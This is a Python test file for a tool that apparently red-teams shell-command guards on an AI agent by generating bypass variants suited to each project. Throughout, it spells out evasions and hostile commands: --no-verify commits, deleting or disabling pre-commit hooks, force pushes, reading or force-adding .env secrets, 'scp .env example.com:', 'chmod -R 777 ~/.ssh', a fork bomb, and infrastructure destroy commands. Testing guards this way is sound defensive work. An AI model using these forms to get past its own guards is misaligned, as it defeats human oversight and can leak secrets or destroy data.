"""An attack tries what makes sense in the project: on its branch, with the programs that it uses, on its git hooks."""

from __future__ import annotations

from pathlib import Path

from tests.every import every

from hookwright.attacking.forms.dangers import Danger, Seed, dangers, programs
from hookwright.attacking.forms.mentions import behind_help
from hookwright.attacking.forms.model import SHELL
from hookwright.attacking.forms.spelling import spelled_in
from hookwright.attacking.forms.variants import Aim, destructive
from hookwright.attacking.own.covered import questions, with_covered
from hookwright.attacking.texts.fitting import fitting, hooks_folder
from hookwright.attacking.texts.meant import by_text
from hookwright.attacking.texts.shown import without_the_unseen

_KNOWN = dangers()
_CHECKS = "grep -qE 'git commit.*--no-verify' <<< \"$command\" && exit 2"


def _project(folder: Path, files: dict[str, str]) -> str:
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    return str(folder)


def _fitting(name: str, project: str) -> Danger:
    return fitting(name, _KNOWN[name], project)


def _forms(danger: Danger) -> set[str]:
    return {it.command for seed in danger.seeds for it in seed.same}


def test_what_pushes_the_branch_that_is_checked_out_is_tried_only_on_main(tmp_path: Path) -> None:
    def forms(branch: str) -> set[str]:
        return _forms(_fitting("protected", _project(tmp_path, {".git/HEAD": f"ref: refs/heads/{branch}\n"})))

    assert {"git push", "git push origin HEAD"} <= forms("main") - forms("feature")
    assert {"git branch -f main feature", "git push -q . feature:main"} <= forms("feature") - forms("main")
    assert "git push origin HEAD:main" in forms("feature") & forms("main")


def test_a_template_that_git_ignores_is_not_added_first(tmp_path: Path) -> None:
    def unsure(*, ignored: str, index: str = "DIRC") -> bool:
        project = _project(tmp_path, {".env.example": "", ".gitignore": ignored, ".git/index": index})
        (seed,) = [it for it in _fitting("secrets", project).seeds if it.name == "commit"]
        return "git add .env.example" in seed.unsure

    assert unsure(ignored="# secrets\n.env*\n")
    assert not unsure(ignored=".env\n")
    assert not unsure(ignored=".env*\n!.env.example\n")
    assert not unsure(ignored=".env.*\n", index="DIRC\0\x0c.env.example\0")


def test_without_a_branch_all_is_tried(tmp_path: Path) -> None:
    for name in ("package.json", "Cargo.toml", "pom.xml", "mkdocs.yml"):
        (tmp_path / name).write_text("{}")
    assert _forms(_fitting("protected", str(tmp_path))) == _forms(_KNOWN["protected"])


def test_what_git_prints_of_a_file_is_tried_only_where_git_knows_it(tmp_path: Path) -> None:
    def forms(index: str) -> set[str]:
        return _forms(_fitting("secrets", _project(tmp_path, {".git/index": index})))

    known = {"git log -p", "git show HEAD:.env"}
    assert known <= forms("DIRC\0\4.env\0")
    assert not known & forms("DIRC\0\x0c.env.example\0")
    assert not known & forms("DIRC\0\x0etests/shop.env\0")
    assert "git add -A -f . && git diff --cached" in forms("DIRC\0.env.example\0")


def test_what_git_prints_of_another_such_file_is_tried_if_the_guard_stops_that_one(tmp_path: Path) -> None:
    project = _project(tmp_path, {".git/index": "DIRC\0\x0c.env.example\0\0\x08.env.dev\0"})
    danger = _fitting("secrets", project)
    aim = Aim("secrets", danger, danger.seeds, is_named=True)
    asked = (SHELL, "cat .env.dev")
    assert asked in set(questions((aim,), project))
    for stopped in ((), (asked,)):
        (found,) = with_covered((aim,), stopped, (), project)
        texts = {it.text for seed in found.seeds for it in destructive(found, seed)}
        assert ("git log -p" in texts) is bool(stopped)
        assert "git show HEAD:.env" not in texts


@every(
    ("files", "folder"),
    [
        ({}, ".git/hooks"),
        ({".git/config": "[core]\n\tbare = false\n"}, ".git/hooks"),
        ({".git/config": "[core]\n\thooksPath = .githooks\n"}, ".githooks"),
        ({".git/config": "[core]\n\thookspath = tools/hooks/\n"}, "tools/hooks"),
        ({".git/config": "[core]\n\thooksPath = .husky/_\n"}, ".husky"),
        ({".git/config": "[core]\n\thooksPath = /usr/share/hooks\n"}, ".git/hooks"),
        ({".husky/pre-commit": "npm test\n"}, ".husky"),
        (
            {
                ".git": "gitdir: kept/.git/worktrees/a\n",
                "kept/.git/worktrees/a/HEAD": "x",
                "kept/.git/config": "[core]\nhooksPath = .githooks\n",
            },
            ".githooks",
        ),
    ],
)
def test_the_folder_of_the_git_hooks(files: dict[str, str], folder: str, tmp_path: Path) -> None:
    assert hooks_folder(_project(tmp_path / folder.replace("/", "-") / str(len(files)), files)) == folder


def test_the_git_hooks_are_attacked_where_the_project_has_them(tmp_path: Path) -> None:
    danger = _fitting(
        "checks", _project(tmp_path, {".git/config": "[core]\nhooksPath = .githooks\n", ".githooks/x": ""})
    )
    forms = _forms(danger)
    assert "chmod -x .githooks/pre-commit && git commit -am wip" in forms
    assert "rm .git/hooks/pre-commit && git commit -am wip" not in forms
    assert "cd .git/hooks && rm pre-commit" in forms
    assert {(it.does, it.path) for it in danger.calls if it.seed == "path of the hooks"} == {
        ("Write", ".githooks/pre-commit")
    }
    assert "git config core.hooksPath ./.githooks" in {it.command for it in danger.harmless}
    assert "git config core.hooksPath ./.githooks" not in {it.command for it in _fitting("checks", "/nowhere").harmless}


def test_husky_does_not_look_at_permissions(tmp_path: Path) -> None:
    forms = _forms(_fitting("checks", _project(tmp_path, {".husky/pre-commit": "npm test\n"})))
    assert "rm .husky/pre-commit && git commit -am wip" in forms
    assert not [it for it in forms if "chmod" in it and ".husky" in it]


@every(
    ("files", "text", "is_tried"),
    [
        ({}, _CHECKS, False),
        ({".pre-commit-config.yaml": "repos: []\n"}, _CHECKS, True),
        ({}, f"{_CHECKS}\n# pre-commit uninstall is refused, too", True),
    ],
)
def test_programs_that_run_checks_are_tried_where_the_project_has_them(
    files: dict[str, str], text: str, is_tried: bool, tmp_path: Path
) -> None:
    project = _project(tmp_path / str(len(files) + len(text)), {"README.md": "", **files})
    known = {name: fitting(name, it, project) for name, it in _KNOWN.items()}
    meant = by_text((text,), known, frozenset({SHELL}))
    assert meant is not None
    forms = {it.command for aim in meant.aims for seed in aim.seeds for it in seed.same}
    assert ("pre-commit uninstall && git commit -am wip" in forms) == is_tried
    assert "HUSKY=0 git commit -am wip" not in forms


@every(
    ("files", "text", "is_tried"),
    [({}, "", False), ({"Pulumi.yaml": "name: shop\n"}, "", True), ({}, "# no `pulumi destroy`, either", True)],
)
def test_another_program_for_infrastructure_is_tried_where_somebody_has_it(
    files: dict[str, str], text: str, is_tried: bool, tmp_path: Path
) -> None:
    project = _project(tmp_path / str(len(files) + len(text)), {"README.md": "", **files})
    known = {name: fitting(name, it, project) for name, it in _KNOWN.items()}
    meant = by_text((f"grep -q 'terraform destroy' && exit 2\n{text}",), known, frozenset({SHELL}))
    assert meant is not None
    forms = {it.command for aim in meant.aims for seed in aim.seeds for it in seed.same}
    assert "terragrunt run-all destroy" in forms
    assert ("pulumi destroy --yes" in forms) == is_tried


@every(("seed", "program"), [("husky", "Husky"), ("lefthook", "Lefthook"), ("skip", "pre-commit")])
def test_the_reason_of_a_seed_that_sets_a_variable_holds_without_the_variable(seed: str, program: str) -> None:
    (found,) = (it for it in _KNOWN["checks"].seeds if it.name == seed)
    assert any("--no-verify" in it.command for it in found.same)
    assert program in found.why
    assert "variable" not in found.why


def test_all_files_of_a_folder_are_not_harmless_for_a_guard_against_all_files() -> None:
    assert not {"git -C src add .", "cd src && git add ."} & {it.command for it in _KNOWN["staging"].harmless}


def test_a_harmless_command_whose_file_is_not_there_does_not_let_the_next_one_run(tmp_path: Path) -> None:
    def joined(project: str) -> set[str]:
        danger = _fitting("secrets", project)
        aim = Aim("secrets", danger, danger.seeds, is_named=False)
        return {it.text for seed in danger.seeds for it in destructive(aim, seed)}

    call = "git add .env.example && git add -f .env"
    assert call not in joined(str(tmp_path))
    assert "git add .env.example; git add -f .env" in joined(str(tmp_path))
    assert call in joined(_project(tmp_path, {".env.example": "KEY=\n"}))


def test_a_form_about_another_file_is_tried_only_where_the_guard_covers_that_file(tmp_path: Path) -> None:
    danger = _KNOWN["secrets"]
    aim = Aim("secrets", danger, danger.seeds, is_named=True)

    def forms(stopped: tuple[tuple[str, str], ...] = (), text: str = "", project: Path = tmp_path) -> set[str]:
        (found,) = with_covered((aim,), stopped, (text,), str(project))
        return {it.text for seed in found.seeds for it in destructive(found, seed)}

    call = "cat .env_prod"
    asked = ("Read", "{project}/.env_prod")
    assert asked in set(questions((aim,), "/nowhere"))
    assert call not in forms()
    assert call in forms((asked,)) & forms(text=r"\.env_prod")
    (tmp_path / "own").mkdir()
    assert call in forms(project=Path(_project(tmp_path / "own", {".env_prod": "KEY=a\n"})))


def test_a_form_that_another_rule_stops_is_left_out() -> None:
    danger = _KNOWN["machine"]
    aim = Aim("machine", danger, danger.seeds, is_named=True)

    def forms(*stopped: str) -> set[str]:
        (found,) = with_covered((aim,), {(SHELL, it) for it in stopped}, (), "/nowhere")
        return {it.text for seed in found.seeds for it in destructive(found, seed)}

    assert "chmod -R 777 ~/.ssh" in forms() - forms("ls -d ~/.ssh")


def test_a_form_that_the_rule_of_a_guard_does_not_mean_is_left_out() -> None:
    danger = _KNOWN["history"]
    aim = Aim("history", danger, danger.seeds, is_named=True)
    pushed, forced = "git push origin :feature; git push origin feature", "git push --force origin feature"
    assert (SHELL, forced) in set(questions((aim,), "/nowhere"))
    for stopped in ([], [(SHELL, forced)]):
        (found,) = with_covered((aim,), stopped, (), "/nowhere")
        texts = {it.text for seed in found.seeds for it in destructive(found, seed)}
        assert (pushed in texts) is bool(stopped)


def test_a_guard_that_is_only_known_by_what_it_says_gets_no_form_that_it_recommends() -> None:
    danger = _KNOWN["history"]
    aim = Aim("history", danger, danger.seeds, is_named=False)
    lease = "git push --force-with-lease origin main"

    def same(text: str) -> set[str]:
        found = without_the_unseen(aim, text, stopped=True)
        assert [it.command for it in found.seeds] == [it.command for it in danger.seeds]
        return {it.command for seed in found.seeds for it in seed.same}

    assert lease in same("No force push") - same("Use --force-with-lease for safer force push")


def test_a_guard_that_forbids_each_access_to_a_file_may_refuse_to_count_its_lines() -> None:
    danger = _KNOWN["secrets"]
    aim = Aim("secrets", danger, danger.seeds, is_named=False)

    def harmless(text: str) -> set[str]:
        return {it.command for it in without_the_unseen(aim, text).danger.harmless}

    less = harmless("Reading .env shows secrets") - harmless("Access to .env files is prohibited")
    assert {"cat .env | wc -l", "grep -c = .env"} <= less
    assert "ls -la .env" not in less


def test_the_help_of_a_program_has_no_file_before_it() -> None:
    searched = behind_help(Seed("copy", "scp .env example.com:", ""))
    assert searched is not None
    assert searched[0] == "scp --help | grep -e .env -e example.com:"


def test_which_finds_no_function() -> None:
    texts = {text for text, _ in spelled_in("f(){ f|f& };f", programs())}
    assert not any("$(which f)" in it for it in texts)
    assert any("$(command -v f)" in it for it in texts)


def test_a_library_is_tried_where_the_project_lists_it(tmp_path: Path) -> None:
    command = "node -p \"require('dotenv').config().parsed\""
    assert command not in _forms(_fitting("secrets", _project(tmp_path, {"package.json": '{"name": "shop"}'})))
    project = _project(tmp_path, {"package.json": '{"dependencies": {"dotenv": "16"}}'})
    assert command in _forms(_fitting("secrets", project))
